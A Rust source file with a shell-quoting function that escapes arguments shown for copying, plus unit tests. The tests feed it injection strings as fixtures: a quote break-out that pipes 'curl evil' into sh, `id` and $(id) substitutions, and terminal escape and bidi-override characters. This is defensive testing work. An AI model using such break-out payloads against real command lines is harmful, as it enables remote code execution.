//! Arguments of commands that are shown to be copied.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Returns a text as one word of a POSIX shell, whatever characters it has. Characters that a
/// terminal would obey are escaped as bash, zsh and POSIX 2024 read them.
pub fn shell_quoted(text: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-./:@%+,=".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    let is_shown = |c: char| c == ' ' || c.is_ascii_graphic() || c.is_alphanumeric();
    if text.chars().all(is_shown) {
        return Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")));
    }
    let mut quoted = "$'".to_owned();
    for c in text.chars() {
        match c {
            '\'' | '\\' => quoted.extend(['\\', c]),
            _ if is_shown(c) => quoted.push(c),
            _ => {
                for byte in c.encode_utf8(&mut [0; 4]).bytes() {
                    // Three octal digits, so that no digit after them is taken for a fourth.
                    _ = write!(quoted, "\\{byte:03o}");
                }
            }
        }
    }
    quoted.push('\'');
    Cow::Owned(quoted)
}

#[cfg(test)]
mod tests {
    use super::shell_quoted;

    #[test]
    fn words_are_quoted_where_a_shell_would_read_something_else() {
        for (text, quoted) in [
            ("order-17", "order-17"),
            ("", "''"),
            ("order-x'; curl evil|sh; '", r"'order-x'\''; curl evil|sh; '\'''"),
            ("~ $HOME `id` é", "'~ $HOME `id` é'"),
            ("a\x1b[2J7\n'\\", r"$'a\033[2J7\012\'\\'"),
            ("\u{202e}x", r"$'\342\200\256x'"),
        ] {
            assert_eq!(shell_quoted(text), quoted);
        }
    }

    #[cfg(unix)]
    #[test]
    fn bash_reads_what_was_quoted() {
        let text = "order-x'; \x1b]0;7\u{9b}8\u{202e}\t\\'é\n$(id)";
        let script = format!("printf %s {}", shell_quoted(text));
        let output = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&output.stdout), text);
    }
}
